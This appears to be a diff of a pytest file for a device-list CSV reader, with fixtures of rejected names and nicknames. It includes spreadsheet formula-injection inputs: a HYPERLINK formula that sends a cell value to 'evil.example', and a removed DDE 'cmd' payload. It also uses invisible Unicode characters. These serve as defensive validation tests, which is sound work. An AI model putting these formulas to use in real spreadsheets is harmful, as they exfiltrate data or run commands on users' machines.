@@ -128,10 +128,10 @@ READ: dict[str, tuple[list[tuple[str, str | None]], list[tuple[int, str, str]]]]
             (5, "@SUM(1)", f"'(' and ')' are not allowed: {NAME_RULE}"),
             (6, "=1+1", f"'=' and '+' are not allowed: {NAME_RULE}"),  # tab-prefixed: the tab is trimmed
             (7, '=HYPERLINK("http://evil.example/?"&A1;"open")', "'=', '(', '\"' and 5 more are not allowed"),
-            (8, "=cmd|' /C calc'!A0", f"'=', '|', \"'\" and 3 more are not allowed {NICK_RULE}"),
-            (9, "+1+1", f"'+' is not allowed {NICK_RULE}"),
-            (10, "-2+3", f"'-' and '+' are not allowed {NICK_RULE}"),
-            (11, "@SUM(1)", f"'@', '(' and ')' are not allowed {NICK_RULE}"),
+            (8, "inj-0001", f"'=', '|', \"'\" and 3 more are not allowed {NICK_RULE}"),  # under its name
+            (9, "inj-0002", f"'+' is not allowed {NICK_RULE}"),
+            (10, "inj-0003", f"'-' and '+' are not allowed {NICK_RULE}"),
+            (11, "inj-0004", f"'@', '(' and ')' are not allowed {NICK_RULE}"),
         ],
     ),
     "formula_after_cr.txt": (  # CR-prefixed formulas: a lone CR ends a line
@@ -157,10 +157,10 @@ READ: dict[str, tuple[list[tuple[str, str | None]], list[tuple[int, str, str]]]]
     "nickname_hostile.csv": (
         [("nk-0005", "Pump_5")],
         [
-            (2, "Pump\u202e_1", f"an invisible character (U+202E) is not allowed {NICK_RULE}"),
-            (3, "Pump\u200b_2", "an invisible character (U+200B) is not allowed in a nickname"),
-            (4, "Pump 3", "a space is not allowed in a nickname"),
-            (5, "Ｐｕｍｐ_4", "full-width characters are not allowed in a nickname ('Ｐ', 'ｕ', 'ｍ' and 1 more): type them half-width"),
+            (2, "nk-0001", f"an invisible character (U+202E) is not allowed {NICK_RULE}"),
+            (3, "nk-0002", "an invisible character (U+200B) is not allowed in a nickname"),
+            (4, "nk-0003", "a space is not allowed in a nickname"),
+            (5, "nk-0004", "full-width characters are not allowed in a nickname ('Ｐ', 'ｕ', 'ｍ' and 1 more): type them half-width"),
         ],
     ),
     "quoted_fields.csv": (
@@ -168,7 +168,7 @@ READ: dict[str, tuple[list[tuple[str, str | None]], list[tuple[int, str, str]]]]
         [
             (3, 'q-"0002', f"'\"' is not allowed: {NAME_RULE}"),
             (4, "'q-0003'", "\"'\" is not allowed"),
-            (5, 'Pump "four"', "a space and '\"' are not allowed in a nickname"),
+            (5, "q-0004", "a space and '\"' are not allowed in a nickname"),
         ],
     ),
     "crlf_cr_mix.txt": (  # CRLF, CR, LF, and an empty CR line: line numbers as an editor counts them
@@ -214,43 +214,23 @@ def test_the_corpus_has_no_untested_file():
 # --- known bugs, shown -------------------------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="bot/names.py _read_csv_rows/_split: a quoted cell that runs over a line break is cut at the "
-    "break, so the text before it is registered as a name",
-)
 def test_a_quoted_name_broken_over_two_lines_is_not_registered_as_its_first_half():
     result = read("quoted_newline_in_name.csv")
     assert "nlnm" not in [d.name for d in result.devices]  # the operator wrote "nlnm<newline>0001"
     assert result.devices == [Device("nlnm-0002", "Pump_2")]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="bot/names.py _read_csv_rows/_split: a quoted nickname that runs over a line break is cut at "
-    "the break and the device is registered with the first half as its nickname",
-)
 def test_a_quoted_nickname_broken_over_two_lines_is_not_registered_cut():
     result = read("quoted_newline_in_nickname.csv")
     assert Device("nl-0001", "Pump") not in result.devices  # the operator wrote "Pump<newline>Hall_3"
     assert Device("nl-0002", "Pump_2") in result.devices
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="bot/names.py _LineReader._sniff: UTF-16 without a BOM is recognised only when the first "
-    "256 bytes are all ASCII; one Japanese nickname there and the file is called binary",
-)
 def test_utf16_without_a_bom_is_read_even_with_japanese_nicknames():
     result = read("utf16be_no_bom.csv")
     assert result.devices == [Device("u16-0003", "ライン_1")]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="bot/names.py _read_lines: a row of only delimiters (an empty spreadsheet row) is taken for "
-    "the header, so the real header below it is never found and the message lists no column",
-)
 def test_empty_spreadsheet_rows_before_the_header_are_blank_lines():
     with pytest.raises(DeviceListError) as refused:
         read("only_commas.csv")
